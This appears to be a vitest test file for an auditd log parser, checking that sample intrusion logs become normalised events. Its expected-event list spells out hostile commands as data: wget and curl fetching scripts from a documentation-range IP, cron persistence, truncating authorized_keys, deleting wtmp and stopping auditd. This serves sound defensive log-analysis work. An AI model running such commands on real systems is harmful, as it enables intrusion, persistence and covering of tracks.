import { existsSync, readFileSync } from 'node:fs'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Event } from '../../event/event.ts'
import { decoded } from './fields.ts'
import { auditd } from './index.ts'
import { readHeader } from './record.ts'
import { contentOf, readAll, textInput } from './samples/text-input.ts'
import { readSocketAddress } from './sockaddr.ts'
import { syscallName } from './syscalls.ts'

const UTC = { minutesAt: () => 0, isDayFirst: false }
const ENRICHED = readFileSync(new URL('samples/enriched.log', import.meta.url), 'utf8')
const AUSEARCH = readFileSync(new URL('samples/ausearch.log', import.meta.url), 'utf8')
const INTERPRETED = readFileSync(new URL('samples/interpreted.log', import.meta.url), 'utf8')
const LINES = ENRICHED.trim().split('\n')

describe('header', () => {
  test.each([
    ['type=SYSCALL msg=audit(1778554812.500:212): arch=c000003e', 'SYSCALL', null, 1_778_554_812_500, 212],
    ['node=web-1 type=CWD msg=audit(1778554812.007:3): cwd="/"', 'CWD', 'web-1', 1_778_554_812_007, 3],
    ['type=UNKNOWN[1334] msg=audit(1778554812.5:9): x=1', 'UNKNOWN[1334]', null, 1_778_554_812_500, 9],
    [
      'May 12 03:00:12 web-1 audispd: node=db-2 type=EOE msg=audit(1778554812.500:4):',
      'EOE',
      'db-2',
      1_778_554_812_500,
      4,
    ],
    ['type=CWD msg=audit(05/12/26 03:00:12.500:212) : cwd=/', 'CWD', null, 1_778_554_812_500, 212],
    ['type=CWD msg=audit(05/12/2026 03:00:12.500:212) : cwd=/', 'CWD', null, 1_778_554_812_500, 212],
    ['type=CWD msg=audit(12.05.2026 03:00:12.500:212) : cwd=/', 'CWD', null, 1_778_554_812_500, 212],
    ['type=CWD msg=audit(2026-05-12 03:00:12.500:212) : cwd=/', 'CWD', null, 1_778_554_812_500, 212],
    ['type=CWD msg=audit(13/05/26 03:00:12.500:212) : cwd=/', 'CWD', null, 1_778_641_212_500, 212],
  ])('%s', (text, type, node, time, serial) => {
    expect(readHeader(text, UTC)).toMatchObject({ type, node, time, serial })
  })

  test.each([
    '',
    'type=SYSCALL msg=audit(1778554812.500): x=1',
    'type=SYSCALL msg=audit(1778554812.500:): x=1',
    'type=SYSCALL msg=audit(.5:1): x=1',
    'type=SYSCALL msg=audit(99999999999.500:1): x=1',
    'type= msg=audit(1778554812.500:1): x=1',
    'msg=audit(1778554812.500:1): x=1',
    'type=CWD msg=audit(13/13/26 03:00:12.500:212) : cwd=/',
    'May 12 03:00:12 web-1 sshd[1]: Accepted password for root',
  ])('is none: %s', (text) => {
    expect(readHeader(text, UTC)).toBeNull()
  })
})

test.each([
  ['"bash"', 'bash'],
  ['62617368', 'bash'],
  ['2F746D702F612062', '/tmp/a b'],
  ['E282AC', '€'],
  ['beef', 'beef'],
  ['123', '123'],
  ['(null)', null],
  ['"?"', null],
  [undefined, null],
])('decoded %s', (value, text) => {
  expect(decoded(value, false)).toBe(text)
})

test.each([
  ['020001BBC63364070000000000000000', { family: 'inet', ip: '198.51.100.7', port: 443, path: null }],
  [
    '0A0016320000000020010DB800000000000000000000000100000000',
    { family: 'inet6', ip: '2001:db8::1', port: 5682, path: null },
  ],
  [
    '0A0016320000000000000000000000000000FFFFC633640700000000',
    { family: 'inet6', ip: '198.51.100.7', port: 5682, path: null },
  ],
  [
    '01002F7661722F72756E2F782E736F636B00',
    { family: 'local', ip: null, port: null, path: '/var/run/x.sock' },
  ],
  ['0100006162', { family: 'local', ip: null, port: null, path: '@ab' }],
  ['100000000000000000000000', { family: 'netlink', ip: null, port: null, path: null }],
  [
    '{ saddr_fam=inet laddr=198.51.100.7 lport=443 }',
    { family: 'inet', ip: '198.51.100.7', port: 443, path: null },
  ],
  ['{ saddr_fam=local path=/run/x }', { family: 'local', ip: null, port: null, path: '/run/x' }],
  ['inet host:198.51.100.7 serv:443', { family: 'inet', ip: '198.51.100.7', port: 443, path: null }],
  ['0200', null],
  ['0A00', null],
  ['zz', null],
  ['', null],
])('address %s', (value, address) => {
  expect(readSocketAddress(value)).toEqual(address)
})

test.each([
  ['c000003e', '59', undefined, undefined, 'execve'],
  ['c00000b7', '221', undefined, undefined, 'execve'],
  ['40000003', '11', undefined, undefined, 'execve'],
  ['c00000b7', '56', undefined, undefined, 'openat'],
  ['40000003', '102', '3', undefined, 'connect'],
  ['40000003', '102', '9', undefined, null],
  ['c000003e', '1', undefined, undefined, null],
  ['c0000015', '11', undefined, 'execve', 'execve'],
  ['x86_64', 'unlinkat', undefined, undefined, 'unlinkat'],
  ['deadbeef', '59', undefined, undefined, null],
])('call %s %s', (arch, number, a0, written, name) => {
  expect(syscallName(arch, number, a0, written)).toBe(name)
})

/** The columns the sample is about, one line per event. */
function summary(event: Event): string {
  switch (event.kind) {
    case 'auth':
      return `auth ${event.outcome} ${event.service} ${event.user} ${event.srcIp} pid ${event.pid} ses ${event.session}`
    case 'session':
      return `session ${event.action} ${event.service} ${event.user} ${event.srcIp} pid ${event.pid} ses ${event.session}`
    case 'process':
      return `process ${event.action} ${event.isSuccess ? 'ok' : 'failed'} ${JSON.stringify(event.args)} in ${event.cwd} exe ${event.actor.exe} target ${event.targetPid}`
    case 'file':
      return `file ${event.action} ${event.path} ${event.targetPath} ${event.mode} key ${event.key}`
    case 'socket':
      return `socket ${event.action} ${event.isSuccess ? 'ok' : 'failed'} ${event.ip}:${event.port} exe ${event.actor.exe}`
    case 'account':
      return `account ${event.action} ${event.user}`
    case 'service':
      return `service ${event.action} ${event.unit}`
    default:
      return event.kind
  }
}

const EXPECTED = [
  'service start auditd',
  'auth failure sshd root 203.0.113.9 pid 900 ses null',
  'auth failure sshd oracle 203.0.113.9 pid 901 ses null',
  'session open sshd root 203.0.113.9 pid 902 ses 12',
  'auth success sshd root 203.0.113.9 pid 902 ses 12',
  'process exec ok ["wget","-q","-O/tmp/a b","http://203.0.113.50/m"] in /dev/shm exe /usr/bin/wget target null',
  'socket connect ok 203.0.113.50:80 exe /usr/bin/wget',
  'process exec ok ["sh","-c","curl -s http://203.0.113.50/very-long-script"] in /root exe /usr/bin/dash target null',
  'file truncate /root/.ssh/authorized_keys null null key keys',
  'file rename /tmp/x /etc/cron.d/0kz null key cron,persistence',
  'file delete wtmp null null key null',
  'file chmod /tmp/a b null 0777 key null',
  'file chattr /root/.ssh/authorized_keys null +i key null',
  'process signal ok ["kill","-9","4711","xmrig"] in null exe /usr/bin/bash target 4711',
  'socket bind ok 2001:db8::1:5682 exe /dev/shm/.x/m',
  'process exec failed ["/usr/local/bin/nothere"] in /root exe /usr/bin/bash target null',
  'process exec ok ["systemctl","stop","auditd"] in /home/bob exe /usr/bin/sudo target null',
  'account add-user eve',
  'account change-password root',
  'service start netd',
  'service configure auditd',
  'process exit failed [] in null exe /dev/shm/.x/m target null',
  'session close sshd root 203.0.113.9 pid 902 ses 12',
]

function inOrder(events: readonly Event[]): string[] {
  return events.toSorted((a, b) => a.time - b.time || (a.kind < b.kind ? -1 : 1)).map(summary)
}

describe('events', () => {
  test('of an enriched log', async () => {
    const { events, reports } = await readAll([textInput('audit.log', ENRICHED)])
    expect(inOrder(events)).toEqual(EXPECTED)
    expect(events.map((event) => Event.parse(event))).toEqual(events)
    expect(reports[0]).toMatchObject({
      format: 'auditd',
      records: LINES.length,
      bad: 0,
      unused: 1,
      late: 0,
    })
    expect(events.find((event) => event.kind === 'file')?.origin).toMatchObject({
      line: 31,
      recordId: '215',
      file: 'audit.log',
    })
  })

  test.each([
    ['without enrichment', ENRICHED.replaceAll(/\u001d.*/gu, ''), '#1002'],
    ['of ausearch', AUSEARCH, '#1002'],
    ['of ausearch -i', INTERPRETED, 'eve'],
  ])('%s are the same', async (_, text, added) => {
    const { events, reports } = await readAll([textInput('audit.log', text)])
    // Only an enriched record knows the name of a number.
    expect(inOrder(events)).toEqual(EXPECTED.map((line) => line.replace('add-user eve', `add-user ${added}`)))
    expect(reports[0]).toMatchObject({ bad: 0 })
  })

  test('the time of ausearch -i is told to be assumed', async () => {
    const { events, reports } = await readAll([textInput('audit.txt', INTERPRETED)])
    expect(new Set(events.map((event) => event.timeQuality))).toEqual(new Set(['zone-assumed']))
    expect(reports[0]?.decisions).toEqual([
      'zone UTC: assumed, ausearch -i writes local times',
      'dates with slashes are month/day: assumed',
    ])
  })

  test('whose zone it is is asked where interpreted times need it, and only there', async () => {
    const { zonesAsked } = await readAll([
      textInput('audit.log', ENRICHED),
      textInput('ausearch.log', AUSEARCH),
      textInput('audit.txt', INTERPRETED),
    ])
    expect(zonesAsked).toEqual(['audit.txt'])
  })

  test.each([
    ['with BOM', Buffer.from(`\uFEFF${ENRICHED}`, 'utf16le')],
    ['without BOM', Buffer.from(ENRICHED, 'utf16le')],
    ['big-endian', Buffer.from(`\uFEFF${ENRICHED}`, 'utf16le').swap16()],
  ])('UTF-16 %s is text like any other', async (_, bytes) => {
    expect(auditd.recognise(bytes)).toBe(1)
    const { events } = await readAll([textInput('audit.log', bytes)])
    expect(inOrder(events)).toEqual(EXPECTED)
  })

  test('an event whose beginning was rotated away is left out, what follows is read', async () => {
    const from = LINES.findIndex((line) => line.startsWith('type=EXECVE'))
    const text = LINES.slice(from).join('\n')
    expect(auditd.recognise(Buffer.from(text))).toBe(1)
    const { events, reports } = await readAll([textInput('audit.log', text)])
    expect(EXPECTED).toEqual(expect.arrayContaining(inOrder(events)))
    expect(events.length).toBeGreaterThan(0)
    expect(reports[0]).toMatchObject({ bad: 0 })
  })

  test('node= names the observer, by name or by address', async () => {
    const named = LINES.map((line, at) => `node=${at < 40 ? 'web-1' : '10.0.3.17'} ${line}`).join('\n')
    const { events } = await readAll([textInput('audit.log', named)])
    expect(new Set(events.map((event) => event.observer))).toEqual(new Set(['host:web-1', 'ip:10.0.3.17']))
  })

  test('what is no record is bad, what ausearch puts between is not', async () => {
    const { reports } = await readAll([textInput('a', `----\ntime->x\n\n<no matches>\nhello\n${ENRICHED}`)])
    expect(reports[0]).toMatchObject({ bad: 1, problems: ['1 line is not an audit record'] })
  })
})

const path = (serial: number, item: number, name: string): string =>
  `type=PATH msg=audit(1778554800.000:${serial}): item=${item} name="${name}" nametype=NORMAL`

const call = (serial: number): string =>
  `type=SYSCALL msg=audit(1778554800.000:${serial}): arch=c000003e syscall=59 success=yes pid=${serial} exe="/bin/x"`

describe('many events that are open at once', () => {
  test('are let go, the oldest first, before they fill the memory', async () => {
    const name = `/tmp/${'x'.repeat(8000)}`
    const serials = Array.from({ length: 3000 }, (_, serial) => serial)
    const lines = serials.flatMap((serial) => [call(serial), path(serial, 0, name)])
    const { events } = await readAll([textInput('audit.log', lines.join('\n'))])
    expect(events.length).toBe(3000)
  })

  test('of which one has more records than any can have lose those, and that is said', async () => {
    const lines = Array.from({ length: 1100 }, (_, item) => path(7, item, `/tmp/${item}`))
    const { reports } = await readAll([textInput('audit.log', lines.join('\n'))])
    expect(reports[0]).toMatchObject({
      records: 1100,
      unused: 1100,
      problems: ['an event has more than 1,024 records: the rest was left out'],
    })
  })
})

describe('the order, number and cut of files do not matter', () => {
  const whole = readAll([textInput('audit.log', ENRICHED)])

  test('cut anywhere between lines, shuffled, and given twice', async () => {
    const expected = (await whole).events.map(contentOf).toSorted()
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 1, max: LINES.length - 1 }),
        fc.boolean(),
        fc.boolean(),
        async (cut, isSwapped, isDoubled) => {
          const parts = [LINES.slice(0, cut), LINES.slice(cut)].map((lines) => `${lines.join('\n')}\n`)
          const inputs = parts.map((text, index) => textInput(`audit.log.${index}`, text))
          if (isSwapped) inputs.reverse()
          if (isDoubled) inputs.push(textInput('copy/audit.log', ENRICHED, 'copy'))
          const { events } = await readAll(inputs)
          expect(events.map(contentOf).toSorted()).toEqual(expected)
        },
      ),
      { seed: 7, numRuns: 60 },
    )
  })
})

describe('hostile input', () => {
  test('any bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 2000 }), async (bytes) => {
        await readAll([textInput('a', bytes)])
        auditd.recognise(bytes)
        auditd.firstTime(bytes)
      }),
      { seed: 7, numRuns: 100 },
    )
  })

  test('damaged logs give valid events or none', async () => {
    const damaged = fc.record({
      text: fc.constantFrom(ENRICHED, INTERPRETED),
      changes: fc.array(
        fc.tuple(
          fc.nat(13_000),
          fc.constantFrom('', '"', "'", '=', ' ', '\0', '(', '{', '\u001d', 'a9[7]=', '\u{1F4A9}', 'FF'),
        ),
        { maxLength: 40 },
      ),
    })
    await fc.assert(
      fc.asyncProperty(damaged, async ({ text, changes }) => {
        let spoilt = text
        for (const [at, piece] of changes) spoilt = `${spoilt.slice(0, at)}${piece}${spoilt.slice(at + 1)}`
        const { events } = await readAll([textInput('a', spoilt)])
        for (const event of events) Event.parse(event)
      }),
      { seed: 7, numRuns: 60 },
    )
  })
})

test('recognises its own and nothing else', () => {
  for (const text of [ENRICHED, AUSEARCH, INTERPRETED]) expect(auditd.recognise(Buffer.from(text))).toBe(1)
  expect(auditd.firstTime(Buffer.from(ENRICHED))).toBe(1_778_554_800_001)
  expect(auditd.firstTime(Buffer.from(INTERPRETED))).toBeNull()
  const syslog = 'May 12 03:00:12 web-1 kernel: audit: type=1400 audit(1778554812.500:4): apparmor="STATUS"\n'
  expect(auditd.recognise(Buffer.from(syslog.repeat(9)))).toBe(0)
})

const CORPUS = new URL(
  '../../../../shared/corpus/logs/crowdsec-hub/auditd-postexploit-rm/auditd-postexploit-rm.log',
  import.meta.url,
)

test.skipIf(!existsSync(CORPUS))('a real log of program starts', async () => {
  const { events, reports } = await readAll([textInput('auditd.log', readFileSync(CORPUS))])
  expect(events.map((event) => event.kind === 'process' && event.args.join(' '))).toEqual(
    Array(10).fill('/bin/rm'),
  )
  expect(reports[0]).toMatchObject({ records: 10, bad: 0, unused: 0 })
})
